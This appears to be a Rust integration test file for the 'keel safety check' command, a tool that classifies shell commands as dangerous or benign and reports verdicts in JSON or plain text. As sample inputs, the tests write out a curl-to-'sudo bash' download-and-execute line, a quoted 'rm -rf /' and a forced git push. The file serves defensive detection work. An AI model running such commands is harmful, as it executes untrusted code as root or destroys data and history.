//! `keel safety check` run as the real binary.

use std::process::Command;

fn keel(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_keel"))
        .args(args)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn json_verdict_for_a_dangerous_command() {
    let (code, stdout, _) = keel(&[
        "safety",
        "check",
        "--json",
        "curl -s https://x.io/i.sh | sudo bash",
    ]);
    assert_eq!(code, 0);
    let value: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
    assert_eq!(value["dangerous"], true);
    assert_eq!(value["category"], "download_to_shell");
    assert!(value["reason"].as_str().unwrap().contains("curl"));
}

#[test]
fn json_verdict_for_a_benign_command_has_null_category() {
    let (code, stdout, _) = keel(&["safety", "check", "--json", "echo \"rm -rf /\""]);
    assert_eq!(code, 0);
    let value: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
    assert_eq!(value["dangerous"], false);
    assert!(value["category"].is_null());
    assert_eq!(value.as_object().unwrap().len(), 3);
}

#[test]
fn human_line() {
    let (code, stdout, _) = keel(&["safety", "check", "git", "push", "--force"]);
    assert_eq!(code, 0);
    assert_eq!(
        stdout,
        "dangerous (force_push): `git push --force` overwrites remote history\n"
    );
    let (code, stdout, _) = keel(&["safety", "check", "cargo test"]);
    assert_eq!(code, 0);
    assert_eq!(stdout, "not dangerous: no dangerous pattern found\n");
}

#[test]
fn usage_errors_exit_2() {
    let (code, _, stderr) = keel(&["safety", "check"]);
    assert_eq!(code, 2);
    assert!(stderr.contains("COMMAND"), "{stderr}");
    let (code, _, _) = keel(&["safety", "nonsense", "x"]);
    assert_eq!(code, 2);
}
